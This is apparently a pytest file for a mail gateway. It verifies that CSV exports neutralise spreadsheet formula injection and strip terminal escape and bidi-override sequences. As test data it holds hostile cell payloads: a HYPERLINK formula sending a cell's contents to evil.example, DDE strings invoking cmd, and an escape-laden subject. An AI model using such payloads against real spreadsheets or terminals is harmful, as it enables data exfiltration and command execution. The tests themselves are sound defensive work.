"""Spreadsheet formulas from a sender (issue 19, finding 5): every CSV the gateway writes
neutralises cells beginning with = + - @ tab or CR (OWASP), through one helper."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from gateway.redact import spreadsheet_safe
from tests.conftest import make_mail
from tests.test_handoff_cli import gateway

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&E2;"x")', "+SUM(1,2)",
           "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def env(cli_env):
    return cli_env


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("value,shown", [
    ("=1+1", "'=1+1"), ("+SUM(1)", "'+SUM(1)"), ("-cmd", "'-cmd"), ("@x", "'@x"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("Frage 0", "Frage 0"),
    ("max@kunde.example", "max@kunde.example"), (3, 3), (-3, -3), ("", "")])
def test_the_helper(value, shown):
    assert spreadsheet_safe(value) == shown


def test_tickets_export_and_report_csv_hold_no_formula(env):
    for n, subject in enumerate(HOSTILE):  # before the cutover: tickets
        gateway(env, "ingest", "--process", "--rcpt", "technik@centron.de", "--sender",
                "=hyperlink@kunde.example", "--at", "2025-09-01T10:00:00+02:00",
                stdin=make_mail(message_id=f"<f{n}@kunde.example>", subject=subject,
                                sender="=hyperlink@kunde.example"))
    gateway(env, "ingest", "--process", "--rcpt", "technik@centron.de", "--sender",
            "+sum@kunde.example", "--at", "2025-10-20T10:00:00+02:00",  # after: a redirect
            stdin=make_mail(message_id="<late@kunde.example>", sender="+sum@kunde.example"))
    exported = gateway(env, "tickets", "export", "--format", "csv")
    report = gateway(env, "report", "--csv")
    for text in (exported, report):
        assert not [c for c in cells(text) if c.startswith(DANGER)], text
    subjects = [row["subject"] for row in csv.DictReader(io.StringIO(exported))]
    assert subjects == ["'" + s for s in HOSTILE]  # the text itself is kept
    customers = {row["customer"] for row in csv.DictReader(io.StringIO(exported))}
    assert customers == {"'=hyperlink@kunde.example"}
    senders = {r["sender"] for r in csv.DictReader(io.StringIO(report)) if r["sender"]}
    assert senders == {"'+sum@kunde.example"}


def test_every_csv_writer_in_the_gateway_goes_through_the_helper():
    """One helper, used everywhere: a module that writes CSV rows wraps each in csv_row."""
    for path in (ROOT / "gateway").rglob("*.py"):
        source = path.read_text()
        if not re.search(r"^import csv$", source, re.M):
            continue
        rows = re.findall(r"\.writerows?\((.{0,12})", source)
        assert rows, path
        assert all(arg.startswith("csv_row(") for arg in rows), (path, rows)


def test_csv_exports_pass_on_no_escape_sequence_or_bidi_control(env):
    """`tickets export --format csv` prints to the terminal like any admin output: a subject's
    escape sequences (a window title, colours) and bidi overrides are not passed on."""
    subject = "=?utf-8?q?=1B]0;pwned=07=1B[31mRechnung=1B[0m_=E2=80=AE=3D1+2?="
    gateway(env, "ingest", "--process", "--rcpt", "technik@centron.de", "--sender",
            "max@kunde.example", "--at", "2025-09-01T10:00:00+02:00",
            stdin=make_mail(message_id="<esc@kunde.example>", subject=subject))
    exported = gateway(env, "tickets", "export", "--format", "csv")
    assert not re.search("[\x1b\x07\u202e]", exported), repr(exported)
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["subject"] == "Rechnung =1+2"
